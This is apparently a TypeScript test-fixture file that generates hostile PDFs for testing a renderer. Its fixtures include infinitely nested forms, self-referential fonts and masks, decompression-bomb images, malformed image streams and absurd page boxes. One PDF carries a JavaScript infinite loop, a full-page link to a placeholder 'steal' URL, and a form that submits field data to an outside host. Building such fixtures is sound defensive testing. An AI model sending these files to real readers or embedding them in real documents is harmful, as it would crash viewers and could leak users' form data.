import { onePage, packed, pdf, stream, type Objects } from './make-pdf.ts'

const BOX = '/BBox[0 0 595 842]'
const form = (content: string, resources: string) =>
  packed(content, `/Type/XObject/Subtype/Form${BOX}/Resources<<${resources}>>`)
const image = (keys: string) => `/Type/XObject/Subtype/Image/BitsPerComponent 8${keys}`
const showing = (objects: Objects, resources: string, content: string, catalog = '') =>
  pdf({ ...onePage(catalog, `/Resources<<${resources}>>`), 4: packed(content), ...objects })

/** Each form draws the next one ten times: ten to the power of ten strokes of a few bytes. */
function formsInForms(): Buffer {
  const levels = Array.from({ length: 10 }, (_, level) => [
    10 + level,
    form('/F Do '.repeat(10), `/XObject<</F ${11 + level} 0 R>>`),
  ])
  const objects = { ...Object.fromEntries(levels), 20: form('0 0 5 5 re f', '') } as Objects
  return showing(objects, '/XObject<</F 10 0 R>>', '/F Do')
}

/** A font whose letter is drawn by writing that letter. */
const fontOfItself = () =>
  showing(
    {
      5: '<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[9]/Encoding<</Differences[65/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>',
      6: packed('9 0 d0 BT /F 9 Tf (AAAA) Tj ET'),
    },
    '/Font<</F 5 0 R>>',
    'BT /F 40 Tf 50 700 Td (A) Tj ET',
  )

/** A pattern whose tile is as good as nothing wide. */
const endlessTiles = () =>
  showing(
    {
      5: packed(
        '0 0 1 1 re f',
        '/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<<>>',
      ),
    },
    '/Pattern<</P 5 0 R>>',
    '/Pattern cs /P scn 0 0 595 842 re f',
  )

/** A mask that is made with itself. */
const maskOfItself = () =>
  showing(
    {
      5: '<</Type/ExtGState/SMask<</S/Luminosity/G 6 0 R>>>>',
      6: packed(
        '/G gs 0 0 300 300 re f',
        `/Type/XObject/Subtype/Form${BOX}/Group<</S/Transparency/CS/DeviceGray>>/Resources<</ExtGState<</G 5 0 R>>>>`,
      ),
    },
    '/ExtGState<</G 5 0 R>>',
    '/G gs 0 0 595 842 re f',
  )

/** A photograph that says of itself that it is 65,535 pixels wide and high. */
function hugePhotograph(): Buffer {
  const head = [0xff, 0xd8, 0xff, 0xc0, 0, 17, 8, 0xff, 0xff, 0xff, 0xff, 3, 1, 0x22, 0, 2, 0x11]
  const bytes = Buffer.from([...head, 1, 3, 0x11, 1, 0xff, 0xd9])
  const keys = '/Width 65535/Height 65535/ColorSpace/DeviceRGB/Filter/DCTDecode'
  return showing(
    { 5: stream(bytes, image(keys)) },
    '/XObject<</I 5 0 R>>',
    '595 0 0 842 0 0 cm /I Do',
  )
}

const brokenPicture = (filter: string) =>
  showing(
    {
      5: stream(
        Buffer.alloc(4000, 0x5a),
        image(`/Width 20000/Height 20000/ColorSpace/DeviceGray/Filter/${filter}`),
      ),
    },
    '/XObject<</I 5 0 R>>',
    '595 0 0 842 0 0 cm /I Do',
  )

const ofStrokes = (many: number) =>
  showing({}, '', '0 0 m 595 842 l S 595 0 m 0 842 l S '.repeat(many / 2))

const sized = (page: string) => pdf({ ...onePage('', page), 4: packed('0 0 99 99 re f') })

/** All of them at once, as a form of an office has them, with words beside. */
const scriptsLinksAndFields = () =>
  pdf({
    ...onePage(
      '/OpenAction 5 0 R/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
      '/Annots[6 0 R 7 0 R 8 0 R]',
    ),
    4: packed('0 0 99 99 re f'),
    5: '<</S/JavaScript/JS(while\\(true\\){})>>',
    6: '<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(DESHPANDE)/DA(/Helv 12 Tf 0 g)/Rect[100 100 400 140]/AA<</K 5 0 R/F 5 0 R/C 5 0 R>>>>',
    7: '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(https://example.in/steal)>>>>',
    8: '<</Type/Annot/Subtype/Widget/FT/Btn/T(send)/Rect[0 0 50 50]/A<</S/SubmitForm/F(https://example.in)>>>>',
  })

/** Documents that are bad to draw, whatever the checks at the door say of them. */
export const hostileDrawings: Record<string, () => Buffer> = {
  'scripts, links and fields that send': scriptsLinksAndFields,
  'forms in forms in forms': formsInForms,
  'a font made of itself': fontOfItself,
  'a pattern of endless tiles': endlessTiles,
  'a mask made of itself': maskOfItself,
  'a photograph as large as a field': hugePhotograph,
  'a picture of JPEG 2000 that is none': () => brokenPicture('JPXDecode'),
  'a picture of JBIG2 that is none': () => brokenPicture('JBIG2Decode'),
  'a fax that is none': () => brokenPicture('CCITTFaxDecode'),
  'a million strokes': () => ofStrokes(1_000_000),
  'a page as large as a district': () => sized('/MediaBox[0 0 200000 200000]/UserUnit 75000'),
  'a page of less than nothing': () => sized('/MediaBox[595 842 0 0]/CropBox[900 900 901 901]'),
  'a page of no numbers': () => sized('/MediaBox[/a (b) null true]/Rotate 45'),
}
